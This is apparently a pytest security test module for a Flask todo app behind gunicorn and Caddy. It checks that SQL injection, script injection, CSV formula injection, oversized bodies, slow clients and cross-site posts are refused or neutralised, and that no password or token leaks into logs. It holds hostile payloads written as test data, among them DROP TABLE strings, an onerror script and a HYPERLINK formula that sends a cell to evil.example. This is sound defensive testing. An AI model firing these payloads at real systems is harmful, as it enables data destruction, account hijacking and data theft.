"""Hostile input and secrets, against real gunicorn + Caddy + a Celery worker over a private
PostgreSQL that requires a password.

Covered elsewhere and not repeated here: JSON log lines stay one per record with hostile
text in body, path and User-Agent (tests/test_logs.py::test_hostile_text_stays_one_json_line,
::test_a_request_id_with_a_newline_never_reaches_the_log), a path scan adds a bounded number of
series (tests/test_metrics.py::test_a_path_scan_adds_only_a_handful_of_series), containers run
as non-root (tests/test_stack_config.py::test_compose_services_run_as_non_root_users,
::test_dockerfile_builds_small_non_root_images_from_the_lock_files), the admin route's token
(tests/test_faults.py::test_admin_route_needs_the_token; repeated briefly below with the
secrets check).
"""

from __future__ import annotations

import csv
import json
import re
import select
import shutil
import socket
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import psycopg2
import pytest
import requests
from flask import Flask

from app.layout import PROJECT_ROOT
from app.settings import Settings, SettingsError
from stack.launch import Running
from stack.private_services import PrivatePostgres, private_postgres
from tests.support.plugin import StackFactory
from tests.support.processes import wait_until

PASSWORD = "pw-Zq9-vX3-never-log-me"
TOKEN = "tok-7f3a9c-admin-switchboard-secret"
SECRET_KEY = "sk-4b1d-session-signing-secret-value"
SECRETS = (PASSWORD, TOKEN, SECRET_KEY)
LIMIT = 1024 * 1024
EVIL = "https://evil.example"


# Every answer this module's stack gave, for the final check that none holds a secret.
ANSWERS: list[str] = []


def call(method: str, url: str, **kwargs: object) -> requests.Response:
    """Send a request and keep its body for the secrets check."""
    kwargs.setdefault("timeout", 15)
    kwargs.setdefault("allow_redirects", False)
    response = requests.request(method, url, **kwargs)  # type: ignore[arg-type]
    ANSWERS.append(response.text + json.dumps(dict(response.headers)))
    return response


def count_todos(pg: PrivatePostgres) -> int:
    """Rows in the todos table, straight from the database."""
    conn = psycopg2.connect(pg.url("todolab"))
    with conn.cursor() as cur:
        cur.execute("SELECT count(*) FROM todos")
        (count,) = cur.fetchone()  # type: ignore[misc]
    conn.close()
    return int(count)


@pytest.fixture(scope="module")
def secured_pg() -> Iterator[PrivatePostgres]:
    """A PostgreSQL of our own with password authentication (a test stops and restarts it)."""
    with private_postgres(password=PASSWORD) as pg:
        pg.create_database("todolab")
        yield pg


@pytest.fixture(scope="module")
def secured(secured_pg: PrivatePostgres, stack_factory: StackFactory) -> Iterator[Running]:
    """gunicorn, a worker and Caddy on that database, with every secret set."""
    if shutil.which("caddy") is None:
        pytest.fail("caddy is not installed (apt-get install caddy)")
    url = Settings.from_env({"DATABASE_URL": secured_pg.url("todolab")}).database_url
    # The embedded broker under the stack's own VAR_DIR (an empty URL is the default).
    settings = {"DATABASE_URL": url, "CELERY_BROKER_URL": "", "FAULTS_TOKEN": TOKEN,
                "SECRET_KEY": SECRET_KEY, "LOG_LEVEL": "DEBUG"}
    with stack_factory(settings, ("web", "worker", "caddy"), concurrency=1) as running:
        yield running


# --- SQL injection -----------------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE todos; --",
    "1' OR '1'='1",
    "Robert'); DELETE FROM todos WHERE ('1'='1",
    "\\'; TRUNCATE exports; --",
    "1; SELECT pg_sleep(10)",
    "%' UNION SELECT id, text FROM todos --",
]


@pytest.mark.stack
def test_sql_injection_in_text_is_stored_verbatim_and_harms_nothing(
        secured: Running, secured_pg: PrivatePostgres) -> None:
    before = count_todos(secured_pg)
    for text in INJECTIONS:
        created = call("POST", secured.web.url + "/api/todos", json={"text": text})
        assert created.status_code == 201, created.text
        fetched = call("GET", secured.web.url + f"/api/todos/{created.json()['id']}")
        assert fetched.json()["text"] == text
        form = call("POST", secured.web.url + "/add", data={"task": text})
        assert form.status_code == 303
    assert count_todos(secured_pg) == before + 2 * len(INJECTIONS)


@pytest.mark.stack
def test_sql_injection_in_ids_is_not_found_and_harms_nothing(
        secured: Running, secured_pg: PrivatePostgres) -> None:
    call("POST", secured.web.url + "/api/todos", json={"text": "keep me"})
    before = count_todos(secured_pg)
    for raw in ["1 OR 1=1", "1; DROP TABLE todos", "1' --", "0 UNION SELECT 1", "-1", "1e3"]:
        ident = quote(raw, safe="")
        for method, path in [("GET", f"/api/todos/{ident}"), ("PATCH", f"/api/todos/{ident}"),
                             ("DELETE", f"/api/todos/{ident}"), ("POST", f"/toggle/{ident}"),
                             ("POST", f"/delete/{ident}"), ("POST", f"/edit/{ident}"),
                             ("GET", f"/tasks/{ident}"), ("GET", f"/download/{ident}")]:
            kwargs = {"json": {"text": "x"}} if method in ("PATCH", "POST") else {}
            response = call(method, secured.web.url + path, **kwargs)
            assert response.status_code == 404, (method, path, response.text)
            assert response.json()["request_id"] == response.headers["X-Request-ID"]
    reorder = call("POST", secured.web.url + "/reorder", json={"order": ["1; DROP TABLE todos"]})
    assert reorder.status_code in (400, 404), reorder.text
    assert count_todos(secured_pg) == before


# --- HTML and spreadsheet injection ------------------------------------------------------------

SCRIPT = '<script>alert("owned")</script><img src=x onerror=alert(1)>'


@pytest.mark.stack
def test_html_in_task_text_is_escaped_in_the_page(secured: Running) -> None:
    call("POST", secured.web.url + "/api/todos", json={"text": SCRIPT})
    for base in (secured.web.url, secured.caddy.url):
        page = call("GET", base + "/", headers={"Accept": "text/html"})
        assert page.status_code == 200
        assert SCRIPT not in page.text and "<img src=x" not in page.text
        assert "&lt;script&gt;alert(&#34;owned&#34;)&lt;/script&gt;" in page.text
    # The form's own error page repeats what the user typed: escaped too.
    too_long = SCRIPT + "x" * 600
    refused = call("POST", secured.web.url + "/add", data={"task": too_long},
                           headers={"Accept": "text/html"})
    assert refused.status_code == 400 and "<script>alert" not in refused.text
    missing = call("GET", secured.web.url + "/" + quote(SCRIPT, safe=""),
                           headers={"Accept": "text/html"})
    assert missing.status_code == 404 and "<script>alert" not in missing.text


@pytest.mark.stack
@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    secured: Running, prefix: str, tmp_path: Path, make_app: Callable[..., Flask]
) -> None:
    from app.db import db
    from app.exports.tasks import write_csv
    from app.models import Todo

    app = make_app(Settings.from_env(secured.env))
    formula = f'{prefix}HYPERLINK("http://evil.example/?"&A1, "click")'
    with app.app_context():
        db.session.add(Todo(text=formula, position=10_000))
        db.session.commit()
        path = tmp_path / "export.csv"
        write_csv(path)
    with open(path, newline="", encoding="utf-8") as fh:  # keep a cell's own \r
        rows = list(csv.DictReader(fh))
    cells = [row["text"] for row in rows]
    assert "'" + formula in cells
    # No text cell of the export starts with a character a spreadsheet would evaluate.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- Oversized bodies, slow clients ------------------------------------------------------------


@pytest.mark.stack
def test_oversized_bodies_are_refused_with_413_by_the_app_and_by_caddy(
        secured: Running, secured_pg: PrivatePostgres) -> None:
    body = b'{"text": "' + b"x" * (LIMIT + 10) + b'"}'

    def chunks() -> Iterator[bytes]:
        for at in range(0, len(body), 64 * 1024):
            yield body[at:at + 64 * 1024]

    before = count_todos(secured_pg)
    for base in (secured.web.url, secured.caddy.url):
        for data in (body, chunks()):
            response = call("POST", base + "/api/todos", data=data,
                                    headers={"Content-Type": "application/json"})
            assert response.status_code == 413, (base, response.text[:200])
            # Caddy cuts a chunked body itself and names the status; else the app's message.
            assert response.json()["error"] in (f"request body too large (limit {LIMIT} bytes)",
                                                "Request Entity Too Large")
            assert response.json()["request_id"] == response.headers["X-Request-ID"]
        form = call("POST", base + "/add", data={"task": "x" * (LIMIT + 10)})
        assert form.status_code == 413
    assert count_todos(secured_pg) == before
    assert call("GET", secured.web.url + "/healthz").status_code == 200


def slow_client(port: int, results: list[float], byte_interval: float = 0.5) -> None:
    """Send a request's headers one byte at a time; record when the server hangs up."""
    request = b"GET /api/todos HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: " + b"s" * 200 + b"\r\n"
    started = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
        for byte in request[:120]:  # bounded: 60 s at most
            try:
                readable, _, _ = select.select([sock], [], [], 0)
                if readable and not sock.recv(4096):
                    break
                if readable:
                    continue  # an error answer (408) is also a hang-up: read till EOF
                sock.sendall(bytes([byte]))
            except OSError:
                break
            time.sleep(byte_interval)
        else:
            results.append(float("inf"))
            return
    results.append(time.monotonic() - started)


@pytest.mark.stack
def test_slow_clients_are_cut_by_caddy_while_others_are_served(secured: Running) -> None:
    port = int(secured.caddy.url.rsplit(":", 1)[1])
    cut_after: list[float] = []
    # Twice as many slow clients as gunicorn has threads (2 x 4).
    threads = [threading.Thread(target=slow_client, args=(port, cut_after), daemon=True)
               for _ in range(16)]
    for thread in threads:
        thread.start()
    served: list[float] = []
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        started = time.monotonic()
        response = call("GET", secured.caddy.url + "/api/todos?per_page=5")
        assert response.status_code == 200
        served.append(time.monotonic() - started)
        time.sleep(0.2)
    for thread in threads:
        thread.join(40)
    print(f"16 slow clients cut by Caddy after {min(cut_after):.1f}-{max(cut_after):.1f}s "
          f"(read_header 10s); meanwhile {len(served)} requests served, slowest "
          f"{max(served) * 1000:.0f} ms")
    assert len(cut_after) == 16
    assert max(cut_after) < 20
    assert max(served) < 2


# --- Cross-site form posts -----------------------------------------------------------------------


@pytest.mark.stack
def test_cross_site_posts_are_refused_and_same_site_or_originless_posts_work(
        secured: Running, secured_pg: PrivatePostgres) -> None:
    todo_id = call("POST", secured.web.url + "/api/todos", json={"text": "target"}).json()["id"]
    before = count_todos(secured_pg)
    posts = [("/add", {"data": {"task": "csrf"}}), (f"/toggle/{todo_id}", {}),
             (f"/edit/{todo_id}", {"data": {"text": "changed"}}), (f"/delete/{todo_id}", {}),
             ("/reorder", {"json": {"order": [todo_id]}}), ("/export", {}),
             ("/api/todos", {"json": {"text": "csrf"}})]
    for base in (secured.web.url, secured.caddy.url):
        for path, kwargs in posts:
            for origin in (EVIL, "null", "http://127.0.0.1.evil.example"):
                refused = call("POST", base + path, headers={"Origin": origin}, **kwargs)
                assert refused.status_code == 403, (base, path, origin, refused.text[:200])
        html = call("POST", base + "/add", data={"task": "csrf"},
                            headers={"Origin": EVIL, "Accept": "text/html"})
        assert html.status_code == 403 and html.headers["X-Request-ID"] in html.text
    put = call("PUT", secured.web.url + "/admin/faults", json={},
                       headers={"Origin": EVIL, "Authorization": f"Bearer {TOKEN}"})
    assert put.status_code == 403
    assert count_todos(secured_pg) == before
    # The README's curl examples send no Origin; a page of the site itself sends its own.
    for base in (secured.web.url, secured.caddy.url):
        origin = base
        plain = call("POST", base + "/add", data={"task": "from curl"})
        same = call("POST", base + "/add", data={"task": "from the page"},
                            headers={"Origin": origin})
        assert (plain.status_code, same.status_code) == (303, 303)
    assert count_todos(secured_pg) == before + 4


# --- Secrets -------------------------------------------------------------------------------------


def test_env_example_holds_no_real_secret() -> None:
    values = {}
    for line in (PROJECT_ROOT / ".env.example").read_text().splitlines():
        if "=" in line and not line.lstrip().startswith("#"):
            name, value = line.split("=", 1)
            values[name.strip()] = value.strip()
    secret_names = [n for n in values if re.search(r"SECRET|PASSWORD|TOKEN|_KEY$", n)]
    assert {"SECRET_KEY", "POSTGRES_PASSWORD", "JUPYTER_TOKEN"} <= set(secret_names)
    for name in secret_names:
        value = values[name]
        assert value == "" or value.startswith("change-me"), f"{name}={value!r} looks real"
    for name in ("DATABASE_URL", "CELERY_BROKER_URL", "CELERY_RESULT_BACKEND"):
        assert "@" not in values[name], f"{name} carries credentials"
    # Copied unchanged into a production .env, the placeholder is refused at start.
    with pytest.raises(SettingsError, match="SECRET_KEY"):
        Settings.from_env({"APP_ENV": "production", "SECRET_KEY": values["SECRET_KEY"]})


@pytest.mark.stack
def test_no_password_token_or_key_in_any_log_line_or_answer(
        secured: Running, secured_pg: PrivatePostgres) -> None:
    admin = secured.web.url + "/admin/faults"
    assert call("GET", admin).status_code == 401
    wrong = call("GET", admin, headers={"Authorization": "Bearer " + TOKEN[:-1]})
    assert wrong.status_code == 401 and TOKEN[:-1] not in wrong.text
    assert call("GET", admin, headers={"Authorization": f"Bearer {TOKEN}"}).status_code == 200
    # Errors of every kind, and an export that the worker runs and logs.
    call("POST", secured.web.url + "/api/todos", data="{bad json",
                 headers={"Content-Type": "application/json"})
    call("GET", secured.web.url + "/nowhere")
    call("DELETE", secured.web.url + "/export")
    task = call("POST", secured.web.url + "/export").json()["task_id"]
    wait_until(lambda: call("GET", f"{secured.web.url}/tasks/{task}").json()["state"]
               in ("succeeded", "failed"), 60, "the export")
    # The database goes away: the cause is logged and answered, the password never.
    secured_pg.stop("fast")
    try:
        for path in ("/readyz", "/api/todos", "/"):
            assert call("GET", secured.web.url + path).status_code == 503
        assert call("POST", secured.web.url + "/export").status_code == 503
        time.sleep(1)
    finally:
        secured_pg.start()
    wait_until(lambda: call("GET", secured.web.url + "/readyz").status_code == 200, 30,
               "the database to be back")
    call("GET", secured.caddy.url + "/api/todos")

    outputs = {"web": secured.web.output(), "worker": secured.worker.output(),
               "caddy": secured.caddy.output()}
    assert "database unavailable" in outputs["web"]
    assert "***@127.0.0.1" in outputs["web"]  # the startup line names the database, masked
    for secret in SECRETS:
        for name, text in outputs.items():
            assert secret not in text, f"{name} log holds a secret"
        assert not [b for b in ANSWERS if secret in b], "an answer holds a secret"
    print(f"checked {sum(len(t.splitlines()) for t in outputs.values())} log lines and "
          f"{len(ANSWERS)} answers for the password, the token and the secret key")


def test_connection_url_passwords_are_masked_alike_in_messages_and_log_lines() -> None:
    from app.observability.logging import mask_secrets
    from app.settings import mask_url

    url = "postgresql://todo:s3cr3t@db:5432/todo"
    assert mask_url(url) == "postgresql://todo:***@db:5432/todo"
    assert mask_url("redis://redis:6379/0") == "redis://redis:6379/0"  # nothing to hide
    line = json.dumps({"message": f"connecting to {url}", "broker": "redis://:p%40ss@redis:6379/0"})
    masked = mask_secrets(line)
    assert "s3cr3t" not in masked and "p%40ss" not in masked
    assert json.loads(masked) == {"message": "connecting to postgresql://todo:***@db:5432/todo",
                                  "broker": "redis://:***@redis:6379/0"}
